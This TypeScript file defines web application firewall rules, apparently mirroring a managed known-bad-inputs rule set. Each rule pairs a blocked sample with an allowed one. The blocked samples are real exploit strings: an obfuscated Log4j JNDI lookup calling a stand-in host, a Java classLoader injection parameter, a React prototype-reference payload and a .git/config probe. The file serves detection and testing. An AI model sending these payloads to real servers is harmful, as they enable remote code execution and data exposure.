import type { DocumentedRule } from "./documented-rule.ts";
import { BODY, HEADER, QUERY_STRING, URI_PATH } from "./parts.ts";
import { signatureRules } from "./rule-builders.ts";
import { SIGNATURES } from "./signatures.ts";

const HOST_LOCALHOST: DocumentedRule = {
  name: "Host_localhost_HEADER",
  action: "BLOCK",
  labels: ["Host_Localhost_Header"],
  attack: "Reaches a site that is meant for the machine itself, by its Host header.",
  stops: { headers: [["host", "localhost:8080"]] },
  allows: { headers: [["host", "api.localhost.example.com"]] },
  inspect: (request) => {
    const host = request.header("host")[0] ?? "";
    const isLocal = /^(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?|0\.0\.0\.0)\.?(?::\d{1,5})?$/i.test(
      host.trim(),
    );
    return isLocal
      ? {
          conditionType: "BYTE_MATCH",
          location: "HEADER",
          fieldName: "host",
          matchedData: [host.slice(0, 64)],
        }
      : undefined;
  },
};

const PROPFIND: DocumentedRule = {
  name: "PROPFIND_METHOD",
  action: "BLOCK",
  labels: ["Propfind_Method"],
  attack: "Lists folders by WebDAV.",
  stops: { method: "PROPFIND" },
  allows: { method: "GET", uriPath: "/propfind" },
  inspect: ({ method }) =>
    method.toUpperCase() === "PROPFIND"
      ? { conditionType: "BYTE_MATCH", location: "METHOD", matchedData: [method] }
      : undefined,
};

/** AWSManagedRulesKnownBadInputsRuleSet. */
export const KNOWN_BAD_INPUT_RULES: readonly DocumentedRule[] = [
  ...signatureRules(
    {
      prefix: "JavaDeserializationRCE",
      attack: "Runs code through objects, class loaders, or expressions of templates, of Java above all.",
      stops: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
      allows: "my java.language class is loaded",
    },
    SIGNATURES.deserialization,
    [
      [BODY, "JavaDeserializationRCE_Body"],
      [URI_PATH, "JavaDeserializationRCE_URIPath"],
      [QUERY_STRING, "JavaDeserializationRCE_QueryString"],
      [HEADER, "JavaDeserializationRCE_Header"],
    ],
  ),
  HOST_LOCALHOST,
  PROPFIND,
  ...signatureRules(
    {
      prefix: "ExploitablePaths",
      attack: "Asks for files and consoles that should never be served.",
      stops: ".git/config",
      allows: "docs/git/config",
    },
    SIGNATURES.exploitablePath,
    [[URI_PATH, "ExploitablePaths_URIPath"]],
  ),
  ...signatureRules(
    {
      prefix: "Log4JRCE",
      attack: "Makes Log4j load code by a lookup in what it logs (CVE-2021-44228), nested or not.",
      stops: "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
      allows: "${name} uses jndi",
    },
    SIGNATURES.lookup,
    [
      [HEADER, "Log4JRCE_Header"],
      [QUERY_STRING, "Log4JRCE_QueryString"],
      [URI_PATH, "Log4JRCE_URIPath"],
      [BODY, "Log4JRCE_Body"],
    ],
  ),
  ...signatureRules(
    {
      prefix: "ReactJSRCE",
      attack:
        "Runs code through references to prototypes that React server components resolve (CVE-2025-55182).",
      stops: "$1:__proto__:then",
      allows: "the constructor then runs",
    },
    SIGNATURES.reactServer,
    [[BODY, "ReactJSRCE_Body"]],
  ),
];
